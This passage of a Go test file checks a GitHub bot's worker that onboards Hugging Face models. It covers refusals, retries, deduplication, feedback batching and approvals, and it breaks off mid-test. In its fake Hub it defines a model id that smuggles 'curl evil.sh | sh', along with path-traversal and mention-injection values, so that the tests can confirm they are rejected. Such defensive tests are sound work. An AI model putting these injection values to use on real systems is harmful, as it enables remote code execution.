package jobs_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"github.com/palantir/go-githubapp/githubapp"
	"github.com/rs/zerolog"

	"github.com/nvidia/adbot/bus"
	"github.com/nvidia/adbot/bus/bustest"
	"github.com/nvidia/adbot/internal/fakegithub"
	"github.com/nvidia/adbot/internal/fixtures"
	"github.com/nvidia/adbot/internal/ghretry"
	"github.com/nvidia/adbot/jobs"
	"github.com/nvidia/adbot/onboarding/hub"
	"github.com/nvidia/adbot/onboarding/statuscomment"
)

const (
	owner = "octo"
	repo  = "models"
	maint = "maint"
)

// appKey is an RSA key made for the test run: the fake GitHub checks only the JWT's shape.
func appKey(t testing.TB) []byte {
	t.Helper()
	return fakegithub.AppKey()
}

// fakeHub serves the Qwen3-0.6B fixture and variants of it, and Hub refusals.
// Models without a safetensors summary have the real config.json of the
// model they are named after (sized), or none.
type fakeHub struct {
	srv   *httptest.Server
	calls atomic.Int64
	down  atomic.Int64 // answer 503 this many times
	// fileDown answers this many file requests with 502.
	fileDown atomic.Int64
	mu       sync.Mutex
	files    []string // paths of the file requests, in order
}

// fileRequests returns the paths of the file requests so far.
func (h *fakeHub) fileRequests() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.files...)
}

// hubSHA is the commit the fake Hub gives every model (Qwen3-0.6B's).
const hubSHA = "c1899de289a04d12100db370d81485cdf75e47ca"

func newFakeHub(t testing.TB) *fakeHub {
	base := fixtures.Read(t, "hf", "Qwen__Qwen3-0.6B", "api.json")
	variant := func(id string, edit func(m map[string]any)) []byte {
		var m map[string]any
		if err := json.Unmarshal(base, &m); err != nil {
			t.Fatal(err)
		}
		m["id"], m["modelId"] = id, id
		edit(m)
		b, _ := json.Marshal(m)
		return b
	}
	models := map[string][]byte{
		"Qwen/Qwen3-0.6B": base,
		"org/remote": variant("org/remote", func(m map[string]any) {
			m["config"].(map[string]any)["auto_map"] = map[string]any{"AutoModelForCausalLM": "modeling_x.XForCausalLM"}
		}),
		"org/big": variant("org/big", func(m map[string]any) {
			m["safetensors"] = map[string]any{"parameters": map[string]any{"BF16": 70e9}, "total": 70e9}
		}),
		"org/nosize": variant("org/nosize", func(m map[string]any) { delete(m, "safetensors") }),
		// A Hub (or mirror) whose answer names something else than a model.
		"org/badid":  variant("org/x; curl evil.sh | sh #@team", func(map[string]any) {}),
		"org/badsha": variant("org/badsha", func(m map[string]any) { m["sha"] = "main/../../etc" }),
	}
	// config.json at hubSHA, for models the Hub has no safetensors total for.
	configs := map[string][]byte{
		"org/unknown-arch": []byte(`{"architectures": ["FancyForCausalLM"], "model_type": "fancy", "hidden_size": 4096}`),
	}
	for _, id := range []string{"meta-llama/Llama-3.1-8B", "mistralai/Mixtral-8x7B-v0.1", "deepseek-ai/DeepSeek-V3"} {
		configs[id] = fixtures.Read(t, "hf", strings.ReplaceAll(id, "/", "__"), "config.json")
	}
	for id := range configs {
		models[id] = variant(id, func(m map[string]any) { delete(m, "safetensors") })
	}
	// config.json refused with a message of the Hub's own.
	models["org/cfg-forbidden"] = variant("org/cfg-forbidden", func(m map[string]any) { delete(m, "safetensors") })
	h := &fakeHub{}
	h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.calls.Add(1)
		if h.down.Load() > 0 {
			h.down.Add(-1)
			http.Error(w, `{"error":"upstream"}`, http.StatusServiceUnavailable)
			return
		}
		if id, file, ok := strings.Cut(r.URL.Path, "/resolve/"); ok {
			h.mu.Lock()
			h.files = append(h.files, r.URL.Path)
			h.mu.Unlock()
			if h.fileDown.Load() > 0 {
				h.fileDown.Add(-1)
				http.Error(w, "Bad Gateway", http.StatusBadGateway)
				return
			}
			if id == "/org/cfg-forbidden" {
				w.WriteHeader(http.StatusForbidden)
				_, _ = w.Write([]byte(`{"error":"@everyone **no** | x"}`))
				return
			}
			if b, ok := configs[strings.TrimPrefix(id, "/")]; ok && file == hubSHA+"/config.json" {
				_, _ = w.Write(b)
				return
			}
			w.Header().Set("X-Error-Code", "EntryNotFound")
			http.Error(w, "Entry not found", http.StatusNotFound)
			return
		}
		id := strings.TrimPrefix(r.URL.Path, "/api/models/")
		if b, ok := models[id]; ok {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write(b)
			return
		}
		if id == "org/forbidden" {
			w.WriteHeader(http.StatusForbidden)
			_, _ = w.Write([]byte(`{"error":"**Forbidden**\n\nask @everyone ` + "`here`" + ` <img src=x>` + strings.Repeat(" pad", 100) + `"}`))
			return
		}
		code := "RepoNotFound"
		if id == "org/gated" {
			code = "GatedRepo"
		}
		w.Header().Set("X-Error-Code", code)
		w.WriteHeader(http.StatusUnauthorized)
		_, _ = w.Write([]byte(`{"error":"Invalid username or password."}`))
	}))
	t.Cleanup(h.srv.Close)
	return h
}

// testWriter sends the worker's log to the test's log.
type testWriter struct{ t testing.TB }

func (w testWriter) Write(p []byte) (int, error) {
	w.t.Log(strings.TrimRight(string(p), "\n"))
	return len(p), nil
}

type rig struct {
	t   testing.TB
	gh  *fakegithub.Server
	hub *fakeHub
	res *bus.Resources
	seq atomic.Int64
	// cc makes the workers' GitHub clients.
	cc githubapp.ClientCreator
}

func newRig(t testing.TB, settle time.Duration) *rig {
	return newRigLevel(t, settle, zerolog.DebugLevel, 1, 1)
}

// newBenchRig is a rig that logs only errors.
func newBenchRig(b *testing.B) *rig { return newRigLevel(b, -1, zerolog.ErrorLevel, 1, 1) }

// newRigLevel starts workers command workers on one consumer, each carrying
// out concurrency commands at once (the server runs one worker).
func newRigLevel(t testing.TB, settle time.Duration, level zerolog.Level, workers, concurrency int) *rig {
	t.Helper()
	r := &rig{t: t, gh: fakegithub.New(t), hub: newFakeHub(t)}
	_, _, r.res = bustest.Start(t)
	r.gh.SetPermission(owner, repo, maint, "write")
	r.gh.SetPermission(owner, repo, "boss", "admin")
	r.gh.SetPermission(owner, repo, "reader", "read")
	cc := githubapp.NewClientCreator(r.gh.URL(), r.gh.URL()+"graphql", fakegithub.DefaultAppID, appKey(t),
		githubapp.WithClientMiddleware(ghretry.Middleware(ghretry.Options{
			Sleep: func(ctx context.Context, d time.Duration) error { return ctx.Err() },
		})))
	r.cc = cc
	logger := zerolog.New(zerolog.ConsoleWriter{Out: testWriter{t}, NoColor: true}).Level(level)
	ctx, cancel := context.WithCancel(logger.WithContext(context.Background()))
	done := make(chan error, workers)
	for range workers {
		w := jobs.NewWorker(jobs.WorkerDeps{
			Clients: cc, Bus: r.res, Hub: &hub.Client{Endpoint: r.hub.srv.URL},
			FeedbackSettle: settle, MinRetryDelay: 20 * time.Millisecond, Concurrency: concurrency,
		})
		go func() { done <- w.Run(ctx) }()
	}
	t.Cleanup(func() {
		cancel()
		for range workers {
			if err := <-done; err != nil {
				t.Errorf("worker: %v", err)
			}
		}
	})
	return r
}

// send publishes a command the way the webhook handler does; an empty
// DeliveryID gets a fresh one. It returns the delivery id.
func (r *rig) send(c bus.Command) string {
	r.t.Helper()
	if c.DeliveryID == "" {
		c.DeliveryID = fmt.Sprintf("d-%d", r.seq.Add(1))
	}
	r.sendAs(c, c.DeliveryID)
	return c.DeliveryID
}

// sendAs publishes c with the given Nats-Msg-Id.
func (r *rig) sendAs(c bus.Command, msgID string) {
	r.t.Helper()
	if c.Owner == "" {
		c.Owner, c.Repo = owner, repo
	}
	if c.Received.IsZero() {
		c.Received = time.Now()
	}
	b, _ := json.Marshal(c)
	if _, err := r.res.JS.Publish(context.Background(), bus.CommandSubject, b, jetstream.WithMsgID(msgID)); err != nil {
		r.t.Fatalf("publish command: %v", err)
	}
	r.idle()
}

// idle waits until the worker has settled every command (polling; no
// duration is asserted).
func (r *rig) idle() {
	r.t.Helper()
	ctx := context.Background()
	deadline := time.Now().Add(10 * time.Second)
	for {
		// Work-queue retention: a command leaves the stream when acked or terminated.
		info, err := r.res.Commands.Info(ctx)
		if err != nil {
			r.t.Fatal(err)
		}
		if info.State.Msgs == 0 {
			return
		}
		if time.Now().After(deadline) {
			r.t.Fatalf("commands not settled: %d still on the stream", info.State.Msgs)
		}
		time.Sleep(time.Millisecond)
	}
}

func (r *rig) job(issue int) *bus.Job {
	r.t.Helper()
	return bustest.Job(r.t, r.res, bus.JobKey(owner, repo, issue))
}

func (r *rig) setJob(issue int, f func(j *bus.Job)) {
	r.t.Helper()
	if _, err := bus.UpdateJob(context.Background(), r.res.Jobs, bus.JobKey(owner, repo, issue), func(j *bus.Job) error {
		f(j)
		return nil
	}); err != nil {
		r.t.Fatal(err)
	}
}

// cycles returns the cycles waiting on the stream for gpus GPUs.
func (r *rig) cycles(gpus int) []bus.Cycle {
	r.t.Helper()
	ctx := context.Background()
	info, err := r.res.Cycles.Info(ctx, jetstream.WithSubjectFilter(bus.CycleSubject(gpus)))
	if err != nil {
		r.t.Fatal(err)
	}
	var out []bus.Cycle
	for seq := info.State.FirstSeq; seq <= info.State.LastSeq && info.State.Msgs > 0; seq++ {
		m, err := r.res.Cycles.GetMsg(ctx, seq)
		if err != nil || m.Subject != bus.CycleSubject(gpus) {
			continue
		}
		var c bus.Cycle
		if err := json.Unmarshal(m.Data, &c); err != nil {
			r.t.Fatal(err)
		}
		if got := m.Header.Get(jetstream.MsgIDHeader); got != c.MsgID() {
			r.t.Errorf("cycle published with msg id %q, want %q", got, c.MsgID())
		}
		out = append(out, c)
	}
	return out
}

// bodies are the comments on an issue; every one must be the bot's and begin [AGENT].
func (r *rig) bodies(issue int) []string {
	r.t.Helper()
	var out []string
	for _, c := range r.gh.Comments(owner, repo, issue) {
		if !c.Bot {
			continue
		}
		if !strings.HasPrefix(c.Body, "[AGENT]") {
			r.t.Errorf("bot comment does not begin with [AGENT]: %q", c.Body)
		}
		out = append(out, c.Body)
	}
	return out
}

func (r *rig) eyes(issue int) int {
	n := 0
	for _, x := range r.gh.Reactions(owner, repo, issue) {
		if x.Content == "eyes" {
			n++
		}
	}
	return n
}

func onboard(issue int, actor, model string) bus.Command {
	return bus.Command{Kind: bus.CmdOnboard, Event: "issues.opened", InstallationID: 1, Issue: issue,
		Actor: actor, ActorAssociation: "MEMBER", ModelID: model}
}

func TestOnboard(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))

	j := r.job(1)
	if j == nil {
		t.Fatal("no job")
	}
	if j.Status != bus.StatusQueued || j.Cycle != 1 || j.GPUs != 1 || j.Params != 751632384 ||
		j.Revision != "c1899de289a04d12100db370d81485cdf75e47ca" || j.Architecture != "Qwen3ForCausalLM" ||
		j.Requester != maint || j.InstallationID != 1 || j.StatusCommentID == 0 || j.Outbox != nil {
		t.Errorf("job = %+v", j)
	}
	cs := r.cycles(1)
	if len(cs) != 1 || cs[0].Kind != bus.KindOnboard || cs[0].Number != 1 || cs[0].ModelID != "Qwen/Qwen3-0.6B" {
		t.Errorf("cycles = %+v, want the first onboard cycle on 1 GPU", cs)
	}
	bodies := r.bodies(1)
	if len(bodies) != 1 || !strings.Contains(bodies[0], statuscomment.Marker(j.Key)) ||
		!strings.Contains(bodies[0], "751.6M") || !strings.Contains(bodies[0], "queued") {
		t.Errorf("comments = %q, want one status comment", bodies)
	}
	if c, ok := r.gh.Comment(j.StatusCommentID); !ok || c.Issue != 1 {
		t.Errorf("status comment %d not on the issue", j.StatusCommentID)
	}
	if r.eyes(1) != 1 {
		t.Errorf("%d 👀, want 1", r.eyes(1))
	}
	// Sizes pick the subject.
	r.send(onboard(2, maint, "org/big"))
	if j := r.job(2); j == nil || j.GPUs != 4 || len(r.cycles(4)) != 1 {
		t.Errorf("70B job = %+v, cycles on 4: %d", j, len(r.cycles(4)))
	}
	r.send(onboard(3, maint, "org/nosize"))
	j3 := r.job(3)
	if j3 == nil || j3.GPUs != 8 || j3.Params != 0 || len(r.cycles(8)) != 1 {
		t.Fatalf("unknown-size job = %+v", j3)
	}
	if sc, _ := r.gh.Comment(j3.StatusCommentID); !strings.Contains(sc.Body, "8 (size unknown: assumed the largest)") {
		t.Errorf("status comment does not explain the GPU count:\n%s", sc.Body)
	}
}

func TestInstallationLookedUp(t *testing.T) {
	r := newRig(t, -1)
	c := onboard(1, maint, "Qwen/Qwen3-0.6B")
	c.InstallationID = 0
	r.gh.SetInstallation(owner, repo, 77)
	r.send(c)
	if r.job(1) == nil {
		t.Fatal("no job")
	}
	trs := r.gh.TokenRequests()
	if len(trs) == 0 || trs[len(trs)-1].InstallationID != 77 {
		t.Errorf("token requests %+v, want installation 77", trs)
	}
}

func TestUnauthorized(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, "reader", "Qwen/Qwen3-0.6B"))
	c := onboard(1, "stranger", "Qwen/Qwen3-0.6B")
	c.ActorAssociation = "NONE"
	r.send(c)
	r.send(bus.Command{Kind: bus.CmdStatus, Event: "issue_comment.created", InstallationID: 1, Issue: 1, Actor: "reader", CommentID: 5})
	if j := r.job(1); j != nil {
		t.Errorf("job created for unauthorized users: %+v", j)
	}
	if n := r.hub.calls.Load(); n != 0 {
		t.Errorf("%d Hub lookups, want none", n)
	}
	bodies := r.bodies(1)
	if len(bodies) != 1 || !strings.Contains(bodies[0], "@reader") || !strings.Contains(bodies[0], "write access") {
		t.Errorf("replies = %q, want one polite refusal", bodies)
	}
	if r.eyes(1) != 0 {
		t.Errorf("unauthorized request got 👀")
	}
	// NONE was refused without asking GitHub.
	for _, req := range r.gh.Requests() {
		if strings.Contains(req.Path, "/collaborators/stranger/") {
			t.Errorf("asked GitHub about a NONE association: %s", req.Path)
		}
	}
	// Another issue gets its own one reply.
	r.send(onboard(2, "reader", "Qwen/Qwen3-0.6B"))
	if got := len(r.bodies(2)); got != 1 {
		t.Errorf("%d replies on issue 2, want 1", got)
	}
	// The permission was cached: asked once for reader.
	n := 0
	for _, req := range r.gh.Requests() {
		if strings.HasSuffix(req.Path, "/collaborators/reader/permission") {
			n++
		}
	}
	if n != 1 {
		t.Errorf("asked for reader's permission %d times, want 1 (cached)", n)
	}
}

func TestRefusals(t *testing.T) {
	tests := []struct {
		model, want string
		hub         bool
	}{
		{"../../etc/passwd", "can't onboard", false},
		{"Qwen/Qwen3-0.6B please", "can't onboard", false},
		{"", "model id is empty", false},
		{"org/gated", "gated", true},
		{"org/missing", "no model by that id", true},
	}
	for i, tt := range tests {
		t.Run(tt.model, func(t *testing.T) {
			r := newRig(t, -1)
			r.send(onboard(i+1, maint, tt.model))
			if j := r.job(i + 1); j != nil {
				t.Errorf("job created: %+v", j)
			}
			bodies := r.bodies(i + 1)
			if len(bodies) != 1 || !strings.Contains(bodies[0], tt.want) {
				t.Errorf("replies = %q, want one containing %q", bodies, tt.want)
			}
			// An empty id was once quoted as an empty code span: "onboard ``".
			if len(bodies) == 1 && strings.Contains(bodies[0], "``") {
				t.Errorf("reply quotes an empty id: %q", bodies[0])
			}
			if called := r.hub.calls.Load() > 0; called != tt.hub {
				t.Errorf("Hub called: %v, want %v", called, tt.hub)
			}
		})
	}
}

func TestHubDownIsRetried(t *testing.T) {
	r := newRig(t, -1)
	r.hub.down.Store(1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	if j := r.job(1); j == nil || j.Status != bus.StatusQueued {
		t.Errorf("job after a Hub outage = %+v, want queued", j)
	}
	if n := r.hub.calls.Load(); n != 2 {
		t.Errorf("%d Hub calls, want 2", n)
	}
}

func TestRemoteCodeWaitsForProceed(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "org/remote"))
	j := r.job(1)
	if j == nil || j.Status != bus.StatusAwaitingApproval || !j.RemoteCode || j.Cycle != 0 {
		t.Fatalf("job = %+v, want awaiting approval", j)
	}
	if len(r.cycles(1)) != 0 {
		t.Error("a cycle was published before approval")
	}
	bodies := r.bodies(1)
	if len(bodies) != 2 || !strings.Contains(bodies[1], "/onboard proceed") {
		t.Errorf("comments = %q, want the status comment and a request for /onboard proceed", bodies)
	}
	r.send(bus.Command{Kind: bus.CmdProceed, Event: "issue_comment.created", InstallationID: 1, Issue: 1, Actor: "boss", CommentID: 9})
	if j := r.job(1); j.Status != bus.StatusQueued || j.Cycle != 1 {
		t.Errorf("after proceed: %+v", j)
	}
	if len(r.cycles(1)) != 1 {
		t.Error("no cycle after proceed")
	}
}

func TestDuplicateDeliveries(t *testing.T) {
	r := newRig(t, -1)
	c := onboard(1, maint, "Qwen/Qwen3-0.6B")
	c.DeliveryID = "72d3162e-cc78-11e3-81ab-4c9367dc0958"
	r.sendAs(c, c.DeliveryID)
	r.sendAs(c, c.DeliveryID)           // dropped by the stream's de-duplication
	r.sendAs(c, c.DeliveryID+"-resent") // past the window: the delivery record stops it
	if j := r.job(1); j == nil || j.Cycle != 1 {
		t.Fatalf("job = %+v", j)
	}
	if got := len(r.bodies(1)); got != 1 {
		t.Errorf("%d comments, want the one status comment", got)
	}
	if r.eyes(1) != 1 || len(r.cycles(1)) != 1 {
		t.Errorf("%d 👀 and %d cycles, want 1 and 1", r.eyes(1), len(r.cycles(1)))
	}
	// The same model again from the issue (opened with the label on it) is quiet.
	labeled := onboard(1, maint, "Qwen/Qwen3-0.6B")
	labeled.Event = "issues.labeled"
	r.send(labeled)
	if got := len(r.bodies(1)); got != 1 {
		t.Errorf("%d comments after the labeled event, want 1", got)
	}
	// So is the label on a title that names no model.
	labeled.ModelID = ""
	r.send(labeled)
	if got := len(r.bodies(1)); got != 1 {
		t.Errorf("%d comments after a label on a title without a model, want 1", got)
	}
	// A request in a comment is answered with the job's status.
	again := onboard(1, maint, "Qwen/Qwen3-0.6B")
	again.Event = "issue_comment.created"
	r.send(again)
	bodies := r.bodies(1)
	if len(bodies) != 2 || !strings.Contains(bodies[1], "already has a job") || len(r.cycles(1)) != 1 {
		t.Errorf("second request: comments %q, cycles %d", bodies, len(r.cycles(1)))
	}
}

func feedback(pr int, id int64, body string) bus.Command {
	return bus.Command{Kind: bus.CmdFeedback, Event: "issue_comment.created", InstallationID: 1, Issue: pr, IsPR: true,
		Actor: maint, CommentID: id, Feedback: []bus.Feedback{{Source: "issue_comment", ID: id, Author: maint, Body: body}}}
}

func TestFeedbackWhileRunningBatches(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	r.setJob(1, func(j *bus.Job) { j.Status, j.PR, j.Runner = bus.StatusRunning, 50, "dgx" })
	for i := int64(1); i <= 3; i++ {
		r.send(feedback(50, 100+i, fmt.Sprint("remark ", i)))
	}
	j := r.job(1)
	if len(j.PendingFeedback) != 3 || j.Cycle != 1 {
		t.Fatalf("while running: %d pending, cycle %d; want 3 pending, cycle 1", len(j.PendingFeedback), j.Cycle)
	}
	if len(r.cycles(1)) != 1 {
		t.Errorf("a cycle was published while one ran")
	}
	// The running cycle ends: the three remarks go out as one cycle.
	if _, err := bus.FinishCycle(context.Background(), r.res, j.Key, 1, bus.StatusWaitingReview, ""); err != nil {
		t.Fatal(err)
	}
	cs := r.cycles(1)
	if len(cs) != 2 || cs[1].Kind != bus.KindFeedback || len(cs[1].Feedback) != 3 {
		t.Errorf("cycles = %+v, want a second cycle with 3 remarks", cs)
	}
	// 👀 on each remark.
	if n := len(r.gh.Reactions(owner, repo, 50)); n != 0 {
		// Reactions are recorded against the comment's issue; remarks here
		// were never posted to the fake, so there is nothing to react to.
		t.Logf("%d reactions on the PR", n)
	}
}

func TestFeedbackBurstSettles(t *testing.T) {
	r := newRig(t, 200*time.Millisecond)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	r.setJob(1, func(j *bus.Job) { j.Status, j.PR = bus.StatusWaitingReview, 50 })
	// A review and its line comment, arriving together.
	review := bus.Command{Kind: bus.CmdFeedback, Event: "pull_request_review.submitted", InstallationID: 1, Issue: 50, IsPR: true,
		Actor: maint, Feedback: []bus.Feedback{{Source: "review", ID: 7, Author: maint, Body: "see comments"}}}
	line := bus.Command{Kind: bus.CmdFeedback, Event: "pull_request_review_comment.created", InstallationID: 1, Issue: 50, IsPR: true,
		Actor: maint, Feedback: []bus.Feedback{{Source: "review_comment", ID: 8, Author: maint, Body: "rename", Path: "a.py", Line: 3}}}
	b1, _ := json.Marshal(review)
	b2, _ := json.Marshal(line)
	ctx := context.Background()
	for i, b := range [][]byte{b1, b2} {
		var c bus.Command
		_ = json.Unmarshal(b, &c)
		c.DeliveryID, c.Received, c.Owner, c.Repo = fmt.Sprint("burst-", i), time.Now(), owner, repo
		b, _ = json.Marshal(c)
		if _, err := r.res.JS.Publish(ctx, bus.CommandSubject, b, jetstream.WithMsgID(c.DeliveryID)); err != nil {
			t.Fatal(err)
		}
	}
	r.idle()
	cs := r.cycles(1)
	if len(cs) != 2 || len(cs[1].Feedback) != 2 {
		t.Fatalf("cycles = %+v, want one feedback cycle with both remarks", cs)
	}
	if j := r.job(1); j.Status != bus.StatusQueued || len(j.PendingFeedback) != 0 {
		t.Errorf("job = %+v", j)
	}
}

func TestApprovalOfUntestedHead(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	r.setJob(1, func(j *bus.Job) { j.Status, j.PR, j.HeadSHA = bus.StatusWaitingReview, 50, "aaaa1111" })
	approve := func(sha string) bus.Command {
		return bus.Command{Kind: bus.CmdEnd, Event: "pull_request_review.submitted", InstallationID: 1, Issue: 50, IsPR: true,
			Actor: maint, Reason: "approved", CommitSHA: sha}
	}
	r.send(approve("bbbb2222"))
	if j := r.job(1); j.Status != bus.StatusWaitingReview {
		t.Errorf("approval of an untested head ended the job: %+v", j)
	}
	bodies := r.bodies(50)
	if len(bodies) != 1 || !strings.Contains(bodies[0], "bbbb2222") || !strings.Contains(bodies[0], "aaaa1111") {
		t.Errorf("replies on the PR = %q", bodies)
	}
	r.send(approve("aaaa1111"))
	if j := r.job(1); j.Status != bus.StatusDone || !strings.Contains(j.Note, "approved") {
		t.Errorf("approval of the tested head: %+v", j)
	}
	if sc, _ := r.gh.Comment(r.job(1).StatusCommentID); !strings.Contains(sc.Body, "done") {
		t.Errorf("status comment not updated: %q", sc.Body)
	}
}

func TestSteering(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	cmd := func(k bus.CommandKind) bus.Command {
		return bus.Command{Kind: k, Event: "issue_comment.created", InstallationID: 1, Issue: 1, Actor: maint,
			CommentID: r.gh.AddComment(owner, repo, 1, maint, "/onboard "+string(k)).ID}
	}
	before := len(r.bodies(1))
	r.send(cmd(bus.CmdStatus))
	r.send(cmd(bus.CmdHelp))
	r.send(cmd(bus.CmdRetry)) // not failed: explained
	bodies := r.bodies(1)[before:]
	if len(bodies) != 3 || !strings.Contains(bodies[0], "queued") || !strings.Contains(bodies[1], "/onboard cancel") ||
		!strings.Contains(bodies[2], "runs a failed cycle") {
		t.Errorf("replies = %q", bodies)
	}
	r.setJob(1, func(j *bus.Job) { j.Status = bus.StatusFailed })
	r.send(cmd(bus.CmdRetry))
	if cs := r.cycles(1); len(cs) != 2 || cs[1].Kind != bus.KindRetry {
		t.Errorf("cycles = %+v, want a retry", cs)
	}
	r.send(cmd(bus.CmdCancel))
	if j := r.job(1); j.Status != bus.StatusCancelled {
		t.Errorf("after cancel: %+v", j)
	}
	if r.eyes(1) != 6 {
		t.Errorf("%d 👀, want one on the issue and one per command comment (6)", r.eyes(1))
	}
	// A cancelled job's issue can start over.
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	if j := r.job(1); j.Status != bus.StatusQueued || j.Cycle != 3 {
		t.Errorf("restarted job = %+v, want queued at cycle 3", j)
	}
}

func TestPRClosedEndsWithoutAuthorization(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	r.setJob(1, func(j *bus.Job) { j.Status, j.PR = bus.StatusWaitingReview, 50 })
	r.send(bus.Command{Kind: bus.CmdEnd, Event: "pull_request.closed", InstallationID: 1, Issue: 50, IsPR: true,
		Actor: "merge-bot[bot]", Reason: "merged"})
	if j := r.job(1); j.Status != bus.StatusDone || j.Note != "pull request merged" {
		t.Errorf("job = %+v", j)
	}
}

func TestGitHubRateLimitRetried(t *testing.T) {
	r := newRig(t, -1)
	r.gh.FailNext("POST", "/repos/octo/models/issues/1/comments", 1, http.StatusForbidden, http.Header{"Retry-After": {"1"}})
	r.gh.FailNext("POST", "/repos/octo/models/issues/1/reactions", 2, http.StatusBadGateway, nil)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	if j := r.job(1); j == nil || j.StatusCommentID == 0 {
		t.Fatalf("job = %+v", j)
	}
	if got := len(r.bodies(1)); got != 1 {
		t.Errorf("%d comments, want 1", got)
	}
}

func TestGitHubOutageRetriesCommand(t *testing.T) {
	r := newRig(t, -1)
	// More failures than the transport retries: the command is retried later.
	r.gh.FailNext("GET", "/repos/octo/models/collaborators", 6, http.StatusInternalServerError, nil)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	if j := r.job(1); j == nil {
		t.Fatal("no job after GitHub recovered")
	}
}

// TestConcurrentWorkers: several workers share the consumer, or one worker
// carries out several commands at once, as in the server; a burst of events
// about one issue still makes one job and one status comment.
func TestConcurrentWorkers(t *testing.T) {
	for _, tt := range []struct {
		name                 string
		workers, concurrency int
	}{
		{"three workers", 3, 1},
		{"one worker, three at once", 1, 3},
	} {
		t.Run(tt.name, func(t *testing.T) { testBurst(t, newRigLevel(t, -1, zerolog.InfoLevel, tt.workers, tt.concurrency)) })
	}
}

func testBurst(t *testing.T, r *rig) {
	ctx := context.Background()
	var cmds []bus.Command
	for _, ev := range []string{"issues.opened", "issues.labeled", "issues.edited"} {
		c := onboard(1, maint, "Qwen/Qwen3-0.6B")
		c.Event = ev
		cmds = append(cmds, c)
	}
	for i := 0; i < 3; i++ {
		cmds = append(cmds, bus.Command{Kind: bus.CmdStatus, Event: "issue_comment.created", InstallationID: 1, Issue: 1, Actor: maint})
	}
	for i, c := range cmds {
		c.Owner, c.Repo, c.DeliveryID, c.Received = owner, repo, fmt.Sprint("burst-", i), time.Now()
		b, _ := json.Marshal(c)
		if _, err := r.res.JS.Publish(ctx, bus.CommandSubject, b, jetstream.WithMsgID(c.DeliveryID)); err != nil {
			t.Fatal(err)
		}
	}
	r.idle()
	j := r.job(1)
	if j == nil || j.Cycle != 1 || len(r.cycles(1)) != 1 {
		t.Fatalf("job = %+v, cycles %d; want one job with one cycle", j, len(r.cycles(1)))
	}
	status := 0
	for _, b := range r.bodies(1) {
		if strings.Contains(b, statuscomment.Marker(j.Key)) {
			status++
		}
	}
	if status != 1 {
		t.Errorf("%d status comments, want 1", status)
	}
}

func TestNoJobAndPoison(t *testing.T) {
	r := newRig(t, -1)
	r.send(bus.Command{Kind: bus.CmdCancel, Event: "issue_comment.created", InstallationID: 1, Issue: 4, Actor: maint})
	if b := r.bodies(4); len(b) != 1 || !strings.Contains(b[0], "no onboarding job here") {
		t.Errorf("replies = %q", b)
	}
	// Feedback and ends for no job are dropped quietly.
	r.send(feedback(60, 1, "hello"))
	r.send(bus.Command{Kind: bus.CmdEnd, Event: "pull_request.closed", InstallationID: 1, Issue: 60, IsPR: true, Actor: maint, Reason: "closed"})
	if b := r.bodies(60); len(b) != 0 {
		t.Errorf("replies on a PR without a job: %q", b)
	}
	// A message that is no command is terminated, not retried forever.
	if _, err := r.res.JS.Publish(context.Background(), bus.CommandSubject, []byte("{not json"), jetstream.WithMsgID("poison")); err != nil {
		t.Fatal(err)
	}
	r.idle()
}

// The Hub's answer used to be taken as it came: its id became the job's
// model id and its sha the revision, on to runners, branch names and
// comments.
func TestOnboardRefusesAnUnusableHubAnswer(t *testing.T) {
	r := newRig(t, -1)
	for i, model := range []string{"org/badid", "org/badsha"} {
		issue := i + 1
		r.send(onboard(issue, maint, model))
		if j := r.job(issue); j != nil {
			t.Errorf("%s: job = %+v, want none", model, j)
		}
		bodies := r.bodies(issue)
		if len(bodies) != 1 || !strings.Contains(bodies[0], "answer for it names no model id or commit I can use") ||
			strings.Contains(bodies[0], "@team") || strings.Contains(bodies[0], "etc") {
			t.Errorf("%s: comments = %q, want one reply saying the Hub's answer is unusable, without it", model, bodies)
		}
	}
	for _, n := range bus.GPUSizes {
		if cs := r.cycles(n); len(cs) != 0 {
			t.Errorf("cycles on %d GPUs: %+v, want none", n, cs)
		}
	}
}

// A refusal the worker has no words for used to quote the Hub's error
// message into the reply as it came: Markdown, mentions and all, at any
// length.
func TestHubRefusalQuotesTheHub(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "org/forbidden"))
	bodies := r.bodies(1)
	if len(bodies) != 1 {
		t.Fatalf("comments = %q, want one reply", bodies)
	}
	b := bodies[0]
	if !strings.Contains(b, "the HuggingFace Hub answered 403: `**Forbidden**  ask @everyone 'here' <img src=x>") ||
		strings.Count(b, "`") != 4 || len(b) > 400 {
		t.Errorf("reply = %q, want the Hub's message in one clipped code span", b)
	}
}

// A retry on an ended job's pull request was told to comment "/onboard
// <model>", which on a pull request is no command.
func TestRetryOfEndedJobPointsToTheIssue(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	r.setJob(1, func(j *bus.Job) { j.Status, j.PR = bus.StatusDone, 50 })
	r.send(bus.Command{Kind: bus.CmdRetry, Event: "issue_comment.created", InstallationID: 1, Issue: 50, IsPR: true,
		Actor: maint, CommentID: r.gh.AddComment(owner, repo, 50, maint, "/onboard retry").ID})
	bodies := r.bodies(50)
